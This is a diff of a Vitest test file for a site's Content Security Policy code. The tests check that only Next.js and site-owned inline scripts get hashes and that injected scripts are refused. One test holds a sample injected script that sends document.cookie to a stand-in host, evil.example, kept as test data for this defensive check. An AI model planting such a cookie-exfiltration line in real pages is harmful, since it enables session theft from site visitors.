@@ -10,10 +10,13 @@ import { gunzipSync } from 'node:zlib';
 import { afterEach, describe, expect, it } from 'vitest';
 import {
   inlineScriptHashes,
+  inlineScripts,
+  isPageScript,
   pagePolicy,
   takesPagePolicy,
   withScriptHashes,
 } from '../../../server/content-security-policy.mjs';
+import { webFontsScript } from '../../../lib/web-fonts-script.mjs';
 import { compressAnswers } from '../../../server/compression.mjs';
 
 const sha256 = (text: string) => `'sha256-${createHash('sha256').update(text).digest('base64')}'`;
@@ -28,32 +31,71 @@ function directives(policy: string): Map<string, string[]> {
   );
 }
 
-describe('inlineScriptHashes', () => {
-  it('hashes the text of every inline script exactly as written', () => {
-    const first = 'self.__next_f.push([1,"a\\u003cb"])';
-    const second = 'requestAnimationFrame(function(){$RT=performance.now()});';
+/** The inline scripts of a page as Next 16 writes them, and the site's own. */
+const nextScripts = [
+  '(self.__next_f=self.__next_f||[]).push([0])',
+  'self.__next_f.push([1,"0:\\"$Sreact.fragment\\"\\n1:I[\\"a\\u003cb\\"]\\n"])',
+  'self.__next_f.push([2,null])',
+  '(globalThis["TURBOPACK"] || (globalThis["TURBOPACK"] = [])).push({"otherChunks":["static/chunks/a.js"],"runtimeModuleIds":[94553]});',
+];
+
+describe('isPageScript', () => {
+  it("recognises Next's data and bootstrap scripts and the site's own", () => {
+    for (const script of [...nextScripts, webFontsScript]) expect(isPageScript(script)).toBe(true);
+  });
+
+  it("refuses any other script, also one that begins like Next's and goes on", () => {
+    for (const script of [
+      'alert(1)',
+      'requestAnimationFrame(function(){$RT=performance.now()});',
+      'self.__next_f.push([1,"x"]);alert(1)',
+      'self.__next_f.push([1,"x"]),alert(1)',
+      'self.__next_f.push([1,"x"]);alert(1);//)',
+      'self.__next_f.push(alert(1))',
+      'self.__next_f.push([1,"x"]) ',
+      '(globalThis["TURBOPACK"] || (globalThis["TURBOPACK"] = [])).push(alert(1));',
+      `${webFontsScript} alert(1)`,
+      '',
+    ]) {
+      expect(isPageScript(script), script).toBe(false);
+    }
+  });
+});
+
+describe('inlineScripts and inlineScriptHashes', () => {
+  it("reads the text of every inline script exactly as written, and hashes the page's own", () => {
+    const [first, second] = [nextScripts[1]!, webFontsScript];
     const html = `<html><head><script>${first}</script></head><body><p>x</p><script nonce="n" id="y">${second}</script></body></html>`;
+    expect(inlineScripts(html)).toEqual([first, second]);
     expect(inlineScriptHashes(html)).toEqual([sha256(first), sha256(second)]);
   });
 
   it('hashes text as UTF-8, entities and markup-like text left as they are', () => {
-    const script = 'var name = "Bánh tráng &amp; <b>cá cơm</b>";';
+    const script = 'self.__next_f.push([1,"Bánh tráng &amp; <b>cá cơm</b>"])';
+    expect(inlineScripts(`<script>${script}</script>`)).toEqual([script]);
     expect(inlineScriptHashes(`<script>${script}</script>`)).toEqual([sha256(script)]);
   });
 
   it('leaves out script files and JSON-LD data blocks, and lists each hash once', () => {
+    const same = nextScripts[0]!;
     const html = [
       '<script src="/_next/static/chunks/a.js" async=""></script>',
       '<script type="application/ld+json">{"@type":"Product"}</script>',
       '<script type="application/json">{}</script>',
-      '<script>same()</script><script>same()</script>',
-      '<script type="module">mod()</script>',
+      `<script>${same}</script><script>${same}</script>`,
     ].join('');
-    expect(inlineScriptHashes(html)).toEqual([sha256('same()'), sha256('mod()')]);
+    expect(inlineScripts(html)).toEqual([same, same]);
+    expect(inlineScriptHashes(html)).toEqual([sha256(same)]);
   });
 
-  it('hashes an empty inline script and finds none in a page without scripts', () => {
-    expect(inlineScriptHashes('<script></script>')).toEqual([sha256('')]);
+  it('gives no hash to a script slipped into the markup, and says which it refused', () => {
+    const slipped = 'fetch("https://evil.example/?" + document.cookie)';
+    const html = `<script>${nextScripts[0]}</script><div><script>${slipped}</script></div><script type="module">mod()</script>`;
+    const refused: string[] = [];
+    expect(inlineScriptHashes(html, (script) => refused.push(script))).toEqual([
+      sha256(nextScripts[0]!),
+    ]);
+    expect(refused).toEqual([slipped, 'mod()']);
     expect(inlineScriptHashes('<p>No script here</p>')).toEqual([]);
   });
 });
@@ -111,7 +153,7 @@ describe('withScriptHashes on a server', () => {
     `<!DOCTYPE html><html><head><script>${script}</script></head><body>${'<p>OCOP</p>'.repeat(500)}</body></html>`;
 
   it('sends a page streamed in pieces whole, with the hashes of its scripts', async () => {
-    const html = page('boot()');
+    const html = page('self.__next_f.push([1,"boot"])');
     const base = await serve((_, res) => {
       res.setHeader('Content-Type', 'text/html; charset=utf-8');
       res.setHeader('Content-Security-Policy', "frame-ancestors 'none'");
@@ -122,12 +164,12 @@ describe('withScriptHashes on a server', () => {
     const response = await fetch(`${base}/vi`);
     expect(await response.text()).toBe(html);
     const policy = directives(response.headers.get('content-security-policy')!);
-    expect(policy.get('script-src')).toEqual(["'self'", sha256('boot()')]);
+    expect(policy.get('script-src')).toEqual(["'self'", sha256('self.__next_f.push([1,"boot"])')]);
     expect(policy.get('frame-ancestors')).toEqual(["'none'"]);
   });
 
   it('keeps headers given to writeHead, and compresses after hashing', async () => {
-    const html = page('compressed()');
+    const html = page('self.__next_f.push([1,"compressed"])');
     const base = await serve((_, res) => {
       res.writeHead(404, { 'Content-Type': 'text/html', 'X-Kept': 'yes' });
       res.end(html);
@@ -136,7 +178,9 @@ describe('withScriptHashes on a server', () => {
     expect(response.status).toBe(404);
     expect(response.headers.get('x-kept')).toBe('yes');
     expect(response.headers.get('content-encoding')).toBe('gzip');
-    expect(response.headers.get('content-security-policy')).toContain(sha256('compressed()'));
+    expect(response.headers.get('content-security-policy')).toContain(
+      sha256('self.__next_f.push([1,"compressed"])'),
+    );
     const raw = Buffer.from(await new Response(response.body).arrayBuffer());
     // fetch decodes gzip itself; either way the page arrives as written.
     const text = raw.subarray(0, 2).equals(Buffer.from([0x1f, 0x8b]))
@@ -146,7 +190,7 @@ describe('withScriptHashes on a server', () => {
   });
 
   it('keeps Content-Length equal to the bytes sent, uncompressed', async () => {
-    const html = page('sized("é")');
+    const html = page('self.__next_f.push([1,"sized é"])');
     const base = await serve((_, res) => {
       res.setHeader('Content-Type', 'text/html');
       res.setHeader('Content-Length', Buffer.byteLength(html));
@@ -161,7 +205,9 @@ describe('withScriptHashes on a server', () => {
     const body = Buffer.concat(chunks);
     expect(body.toString('utf8')).toBe(html);
     expect(Number(response.headers['content-length'])).toBe(body.length);
-    expect(response.headers['content-security-policy']).toContain(sha256('sized("é")'));
+    expect(response.headers['content-security-policy']).toContain(
+      sha256('self.__next_f.push([1,"sized é"])'),
+    );
   });
 
   it('passes other answers through untouched: JSON, embeds, and pages already encoded', async () => {
